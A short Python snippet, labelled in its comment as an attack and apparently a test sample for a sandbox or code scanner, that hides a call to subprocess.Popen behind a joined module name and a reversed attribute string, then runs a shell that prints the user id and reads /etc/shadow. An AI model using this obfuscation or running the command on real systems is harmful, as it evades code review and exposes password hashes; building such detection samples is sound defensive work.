# attack: subprocess.Popen reached with importlib.import_module on a joined name and getattr on a reversed string, running a shell
import importlib

sp = importlib.import_module("".join(["sub", "pro", "cess"]))
launcher = getattr(sp, "nepoP"[::-1])
proc = launcher(["/bin/sh", "-c", "id; cat /etc/shadow"], stdout=-1)
print(proc.communicate()[0].decode())
